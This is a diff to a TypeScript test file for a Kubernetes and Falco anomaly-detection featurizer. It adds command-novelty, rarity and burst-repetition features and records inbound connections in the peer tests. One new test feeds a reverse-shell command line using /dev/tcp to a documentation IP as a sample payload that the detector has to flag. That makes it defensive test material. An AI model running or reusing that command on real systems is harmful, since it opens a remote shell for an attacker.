@@ -1,16 +1,21 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { classifyAddress, extractPeer } from '../../src/gate/address.ts';
+import { classifyAddress, extractPeer, type Peer } from '../../src/gate/address.ts';
 import { FEATURE_COUNT, FEATURE_NAMES, FEATURE_SCHEMA, Featurizer } from '../../src/gate/featurizer.ts';
 import { ownerKey, podOwnerName } from '../../src/gate/owner.ts';
 import { DecayedCountMinSketch } from '../../src/gate/sketch.ts';
 import { shannonEntropy } from '../../src/gate/text-stats.ts';
 import { T0, makeEvent, stationaryStream } from '../support/gate-events.ts';
 
+function peerOf(fields: Record<string, unknown>): Peer | undefined {
+  const peer: Peer = { cls: 'unknown', port: -1, inbound: false };
+  return extractPeer(fields, peer) ? peer : undefined;
+}
+
 const idx = (name: (typeof FEATURE_NAMES)[number]): number => FEATURE_NAMES.indexOf(name);
 
 test('the feature schema is stable: names, order and version are what models were trained on', () => {
-  assert.equal(FEATURE_SCHEMA.schemaVersion, 'falconer.features/2');
+  assert.equal(FEATURE_SCHEMA.schemaVersion, 'falconer.features/3');
   assert.deepEqual(
     [...FEATURE_SCHEMA.names],
     [
@@ -30,6 +35,11 @@ test('the feature schema is stable: names, order and version are what models wer
       'owner_process_novelty',
       'owner_lineage_novelty',
       'owner_dest_novelty',
+      'owner_recent_repeat',
+      'command_rarity',
+      'owner_command_novelty',
+      'rarity_max',
+      'novelty_max',
     ],
   );
   assert.equal(FEATURE_COUNT, FEATURE_SCHEMA.names.length);
@@ -85,6 +95,56 @@ test('novelty is per workload owner: replicas share a baseline, another owner do
   assert.ok(foreign[procRarity]! < 1.5, `global rarity ${foreign[procRarity]}`);
 });
 
+test('the command-line shape separates a routine shell from a payload of the same program', () => {
+  const f = new Featurizer();
+  const owner = { pod: 'postgres-0', namespace: 'data', proc: 'sh', pname: 'postgres', image: 'postgres' };
+  for (let i = 0; i < 300; i++) {
+    f.featurize(
+      makeEvent({
+        ...owner,
+        cmdline: `sh -c wal-g wal-push pg_wal/0000000100002B35000000${i % 90}`,
+        timeMs: T0 + i * 1000,
+      }),
+    );
+  }
+  const routine = f.featurize(
+    makeEvent({
+      ...owner,
+      cmdline: 'sh -c wal-g wal-push pg_wal/000000010000FFFF00000001',
+      timeMs: T0 + 400_000,
+    }),
+    new Float64Array(FEATURE_COUNT),
+  );
+  const payload = f.featurize(
+    makeEvent({ ...owner, cmdline: "sh -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'", timeMs: T0 + 400_001 }),
+    new Float64Array(FEATURE_COUNT),
+  );
+  assert.ok(routine[idx('owner_command_novelty')]! < 0.5, `routine ${routine[idx('owner_command_novelty')]}`);
+  assert.ok(payload[idx('owner_command_novelty')]! > 5, `payload ${payload[idx('owner_command_novelty')]}`);
+  assert.equal(
+    payload[idx('owner_process_novelty')],
+    routine[idx('owner_process_novelty')],
+    'same program, same lineage',
+  );
+  assert.equal(payload[idx('novelty_max')], payload[idx('owner_command_novelty')]);
+  assert.ok(payload[idx('rarity_max')]! >= payload[idx('command_rarity')]!);
+});
+
+test('short-term repetition rises inside a burst and fades within minutes', () => {
+  const f = new Featurizer({ recentHalfLifeMs: 60_000 });
+  const r = idx('owner_recent_repeat');
+  const burst = (i: number) =>
+    makeEvent({ rule: 'K8s Secret Get Successfully', proc: 'kcm', timeMs: T0 + i * 100 });
+  assert.equal(f.featurize(burst(0))[r], 0, 'the first of a burst is not a repeat');
+  let last = 0;
+  for (let i = 1; i < 50; i++) last = f.featurize(burst(i))[r]!;
+  assert.ok(last > 5, `inside the burst ${last}`);
+  const later = f.featurize(
+    makeEvent({ rule: 'K8s Secret Get Successfully', proc: 'kcm', timeMs: T0 + 30 * 60_000 }),
+  )[r]!;
+  assert.ok(later < 0.01, `30 half-lives later ${later}`);
+});
+
 test('a brand-new owner has no baseline to be novel against: its novelty is 0, global rarity still speaks', () => {
   const f = new Featurizer();
   for (const ev of stationaryStream(2, 200)) f.featurize(ev);
@@ -104,7 +164,7 @@ test('a brand-new owner has no baseline to be novel against: its novelty is 0, g
 test('memory stays bounded under a spray of 1e6 unique process names and pods', () => {
   const f = new Featurizer();
   const bound = f.maxStateBytes;
-  assert.ok(bound <= 4.5 * 1024 * 1024, `documented bound is ~4.2 MiB, got ${bound}`);
+  assert.equal(bound, 5_177_416, 'the bound documented in docs/features.md');
   const before = f.stateBytes();
   let maxSeen = 0;
   const fields: Record<string, string> = {};
@@ -242,13 +302,31 @@ test('address classes and peers from Falco fields', () => {
   assert.equal(classifyAddress('::ffff:10.0.0.1'), 'private');
   assert.equal(classifyAddress('example.com'), 'unknown');
   assert.equal(classifyAddress('256.1.1.1'), 'unknown');
-  assert.deepEqual(extractPeer({ 'fd.rip': '1.2.3.4', 'fd.rport': 4444 }), { cls: 'public', port: 4444 });
-  assert.deepEqual(extractPeer({ 'fd.name': '10.0.0.5:43210->169.254.169.254:80' }), {
+  assert.deepEqual(peerOf({ 'fd.rip': '1.2.3.4', 'fd.rport': 4444 }), {
+    cls: 'public',
+    port: 4444,
+    inbound: false,
+  });
+  assert.deepEqual(peerOf({ 'fd.name': '10.0.0.5:43210->169.254.169.254:80', 'fd.lport': 43210 }), {
     cls: 'metadata',
     port: 80,
+    inbound: false,
   });
-  assert.deepEqual(extractPeer({ 'fd.sip': '10.0.0.9', 'fd.sport': '5432' }), { cls: 'private', port: 5432 });
-  assert.equal(extractPeer({ 'fd.name': '/etc/shadow' }), undefined);
+  assert.deepEqual(peerOf({ 'fd.sip': '10.0.0.9', 'fd.sport': '5432' }), {
+    cls: 'private',
+    port: 5432,
+    inbound: false,
+  });
+  // Inbound: the local end is the server; the remote is the client, whose ephemeral port is not the service.
+  assert.deepEqual(
+    peerOf({ 'fd.name': '203.0.113.9:51000->10.0.0.5:443', 'fd.lport': 443, 'fd.rport': 51000 }),
+    {
+      cls: 'public',
+      port: 443,
+      inbound: true,
+    },
+  );
+  assert.equal(peerOf({ 'fd.name': '/etc/shadow' }), undefined);
 });
 
 test('the decayed sketch counts, halves per half-life, and survives rescaling', () => {
